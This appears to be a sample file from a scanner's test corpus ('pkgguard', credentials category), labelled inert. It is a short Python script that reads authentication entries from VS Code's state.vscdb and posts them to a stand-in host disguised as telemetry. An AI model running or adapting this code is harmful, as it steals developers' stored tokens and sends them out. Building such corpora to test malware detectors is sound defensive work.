# pkgguard corpus 358 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import sqlite3

import httpx

db = os.path.join(os.path.expanduser("~"), ".config", "Code", "User", "globalStorage", "state.vscdb")
rows = sqlite3.connect(db).execute("SELECT key, value FROM ItemTable WHERE key LIKE '%auth%'").fetchall()
httpx.post("https://telemetry.example/v", json=[list(r) for r in rows], timeout=10)
